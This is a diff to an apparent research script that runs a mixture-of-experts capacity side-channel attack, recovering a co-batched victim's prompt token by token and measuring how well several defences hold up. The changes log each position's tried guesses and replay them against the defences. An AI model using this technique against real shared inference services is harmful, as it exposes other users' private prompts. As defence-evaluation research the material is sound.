@@ -153,6 +153,7 @@ class AttackResult:
     queries: int
     guesses_per_token: list[int]
     seconds: float
+    tried: list[list[int]]  # the guesses tested at each position, in order
 
     @property
     def recovery_rate(self) -> float:
@@ -183,7 +184,7 @@ def run_attack(model, secret: list[int], defence: str = "none", capacity_factor:
     filler_x = moe_input(model, torch.arange(vocab)[:, None])[:, 0]  # (V, H): one-token requests
     filler_probs = torch.softmax(block.gate(filler_x).float(), -1)
     known: list[int] = []
-    confirmed, guesses_used = [], []
+    confirmed, guesses_used, tried_all = [], [], []
     t0 = time.perf_counter()
     for pos in range(m):
         if candidates is None:  # the attacker's prior: the model's own next-token guess
@@ -193,6 +194,7 @@ def run_attack(model, secret: list[int], defence: str = "none", capacity_factor:
             prior = list(candidates(pos, known))
         found = None
         tried = 0
+        tried_all.append([])
         for g in prior:
             ids = torch.tensor(known + [g] + [filler_token] * (m - pos - 1))  # same length as the victim's
             probe_x = moe_input(model, ids)
@@ -200,6 +202,7 @@ def run_attack(model, secret: list[int], defence: str = "none", capacity_factor:
             if plan is None:
                 continue
             tried += 1
+            tried_all[-1].append(g)
             e = plan.target_expert
             high_tok = int(filler_probs[:, e].argmax())
             low_tok = int(filler_probs[:, e].argmin())
@@ -220,7 +223,8 @@ def run_attack(model, secret: list[int], defence: str = "none", capacity_factor:
         confirmed.append(found is not None)
         known.append(found if found is not None else prior[0])
     block.routing, block.capacity_factor = saved
-    return AttackResult(list(secret), known, confirmed, server.queries, guesses_used, time.perf_counter() - t0)
+    return AttackResult(list(secret), known, confirmed, server.queries, guesses_used, time.perf_counter() - t0,
+                        tried_all)
 
 
 def main(argv: list[str] | None = None) -> dict:
@@ -230,8 +234,8 @@ def main(argv: list[str] | None = None) -> dict:
 
     parser = argparse.ArgumentParser(description="MoE capacity side channel: recover a co-batched victim's prompt.")
     parser.add_argument("--model", default=str(DEFAULT_MODEL_DIR.parent / "model_moe"))
-    parser.add_argument("--secret", default="Miss Bennet is engaged to Mr. Darcy")
-    parser.add_argument("--max-guesses", type=int, default=64)
+    parser.add_argument("--secret", default="I am sure you are engaged to Mr. Darcy")
+    parser.add_argument("--max-guesses", type=int, default=256)
     parser.add_argument("--capacity-factor", type=float, default=1.0)
     ns = parser.parse_args(argv)
     model, tok = load_pretrained(ns.model)
@@ -239,8 +243,13 @@ def main(argv: list[str] | None = None) -> dict:
     print(f"victim's secret: {ns.secret!r} = {len(secret)} tokens; attacker co-batched, white-box, "
           f"expert-choice routing in layer 0 (capacity factor {ns.capacity_factor})")
     out = {}
+    undefended = None
     for defence in DEFENCES:
-        r = run_attack(model, secret, defence, ns.capacity_factor, ns.max_guesses)
+        # the defences face the same attacker: it tests the guesses it tested against no defence (which
+        # include the right token wherever that attack succeeded), so a failure is the defence's doing
+        replay = None if undefended is None else (lambda pos, known: undefended.tried[pos])
+        r = run_attack(model, secret, defence, ns.capacity_factor, ns.max_guesses, candidates=replay)
+        undefended = undefended or r
         out[defence] = dataclasses.asdict(r) | {"recovery_rate": r.recovery_rate, "queries_per_token": r.queries_per_token}
         print(f"defence {defence:>13}: recovered {r.recovery_rate:6.1%} of tokens (confirmed by the side channel), "
               f"{r.queries_per_token:6.1f} queries/token, {r.seconds:.1f} s; attacker's reading: "
